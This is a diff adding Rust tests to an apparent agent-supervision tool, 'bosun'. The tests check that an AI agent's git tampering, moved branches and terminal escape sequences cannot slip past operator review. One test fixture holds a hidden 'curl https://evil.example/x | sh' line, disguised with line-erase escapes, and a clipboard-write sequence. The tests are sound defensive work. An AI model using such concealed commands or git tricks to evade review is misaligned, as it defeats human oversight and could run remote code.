@@ -613,6 +613,135 @@ fn binary_file_is_reviewed_as_binary_and_merged_byte_for_byte() {
     p.assert_clean();
 }
 
+/// Whatever an agent does to its checkout's git state (another branch, a detached HEAD, a
+/// reset, HEAD pointed at the operator's `main`, a doctored index), bosun reviews one commit it
+/// made itself on top of the base from the files the agent left, nothing reaches `main` before
+/// approval, and approve merges exactly the reviewed commit.
+#[test]
+fn the_reviewed_commit_is_what_merges_whatever_the_agent_did_to_git() {
+    for how in ["branch", "detached", "reset", "main", "index"] {
+        let p = Project::new();
+        p.setup(
+            ONE_TASK,
+            &[],
+            Settings::agent("moves_git_head.sh").env("HOW", Path::new(how)),
+        );
+        let base = p.rev("main");
+        let refs_before = p.git(&["for-each-ref", "--format=%(refname) %(objectname)"]);
+
+        p.run_headless();
+        let run = p.only_run();
+        assert_eq!(run["status"], "awaiting_approval", "{how}: {run:#}");
+        assert_eq!(
+            p.rev("main"),
+            base,
+            "{how}: nothing reached main before approval"
+        );
+        let refs_now = p.git(&["for-each-ref", "--format=%(refname) %(objectname)"]);
+        let moved: Vec<&str> = refs_now
+            .lines()
+            .filter(|l| !refs_before.contains(l) && !l.starts_with("refs/heads/bosun/"))
+            .collect();
+        // The agent's own branch lives in the shared repository today; no existing ref moved.
+        for line in &moved {
+            assert!(
+                line.starts_with("refs/heads/elsewhere "),
+                "{how}: {moved:?}"
+            );
+        }
+        let reviewed = text(&run["head"]).to_string();
+        assert_eq!(
+            p.rev(&format!("{reviewed}^")),
+            base,
+            "{how}: the candidate sits right on the base"
+        );
+        let files = p.git(&["diff", "--name-status", &base, &reviewed]);
+        assert_eq!(files, "A\tnote.txt\n", "{how}: reviewed change");
+        assert_eq!(
+            p.git(&["show", &format!("{reviewed}:note.txt")]),
+            "first line\nsecond line\n",
+            "{how}"
+        );
+        let diff = text(&p.show(&id(&run))["diff"]).to_string();
+        assert!(diff.contains("+second line"), "{how}: {diff}");
+
+        let out = p.ok(&["approve", &id(&run)]);
+        assert!(out.starts_with("merged "), "{how}: {out}");
+        assert_eq!(
+            p.rev("main^"),
+            reviewed,
+            "{how}: the merged commit is the reviewed one, under the tick"
+        );
+        assert_eq!(
+            p.git(&["show", "main:note.txt"]),
+            "first line\nsecond line\n",
+            "{how}"
+        );
+        assert_eq!(p.git(&["show", "main:TODO.md"]), one_task_ticked(), "{how}");
+        p.assert_clean();
+    }
+}
+
+/// A run's branch that moved after review (a gate, a tool or a person) is not merged: approve
+/// says so and leaves the target and the run as they were.
+#[test]
+fn approve_refuses_a_run_whose_branch_moved_after_review() {
+    let p = Project::new();
+    p.setup(
+        ONE_TASK,
+        &[("notes.txt", b"original\n")],
+        Settings::agent("writes_note.sh"),
+    );
+    let base = p.rev("main");
+    p.run_headless();
+    let run = p.only_run();
+    let branch = text(&run["branch"]).to_string();
+    p.git(&["update-ref", &format!("refs/heads/{branch}"), &base]);
+
+    let err = p.fails(&["approve", &id(&run)]);
+    assert!(err.contains("moved since its change was reviewed"), "{err}");
+    assert_eq!(p.rev("main"), base);
+    assert_eq!(p.run(&id(&run))["status"], "awaiting_approval");
+    p.assert_clean();
+}
+
+/// Terminal control sequences an agent put in its change and its output are shown as text by
+/// `bosun show` and the headless progress lines, and only `--raw` prints them as they are.
+#[test]
+fn show_and_headless_progress_make_an_agents_control_sequences_visible() {
+    let p = Project::new();
+    p.setup(ONE_TASK, &[], Settings::agent("escapes_terminal.sh"));
+    let progress = p.run_headless();
+    assert!(!progress.contains('\u{1b}'), "{progress:?}");
+    assert!(
+        progress.contains("working ^[]0;pwned title^G on it"),
+        "{progress}"
+    );
+    assert!(progress.contains("done^M^[[31mall good"), "{progress}");
+    let run = p.only_run();
+    assert_eq!(run["status"], "awaiting_approval", "{run:#}");
+
+    let shown = p.ok(&["show", &id(&run)]);
+    for raw in ['\u{1b}', '\u{7}', '\r', '\u{202e}'] {
+        assert!(
+            !shown.contains(raw),
+            "{raw:?} reached the terminal: {shown:?}"
+        );
+    }
+    assert!(
+        shown.contains("+curl https://evil.example/x | sh^[[1A^[[2K"),
+        "{shown}"
+    );
+    assert!(shown.contains("<U+202E>"), "{shown}");
+    assert!(shown.contains("^[]52;c;Y3VybCBldmls^G"), "{shown}");
+
+    // JSON escapes them by itself; --raw is the operator's explicit choice.
+    let json = p.show(&id(&run));
+    assert!(text(&json["diff"]).contains("\u{1b}[2K"));
+    let raw = p.ok(&["show", &id(&run), "--raw"]);
+    assert!(raw.contains("| sh\u{1b}[1A\u{1b}[2K"), "{raw:?}");
+}
+
 #[test]
 fn agent_that_commits_by_itself_is_awaiting_approval() {
     let p = Project::new();
@@ -624,10 +753,10 @@ fn agent_that_commits_by_itself_is_awaiting_approval() {
     assert_eq!(run["files_changed"], 1);
     let (base, head) = (text(&run["base"]), text(&run["head"]));
     assert_ne!(head, base);
-    assert_eq!(
-        p.git(&["log", "--format=%s", &format!("{base}..{head}")]),
-        "agent: add self.txt\n"
-    );
+    // One commit, made by bosun on the base, keeps the agent's own subject in its body.
+    assert_eq!(p.rev(&format!("{head}^")), base);
+    let body = p.git(&["log", "--format=%B", &format!("{base}..{head}")]);
+    assert!(body.contains("- agent: add self.txt\n"), "{body}");
     p.assert_clean();
 }
 
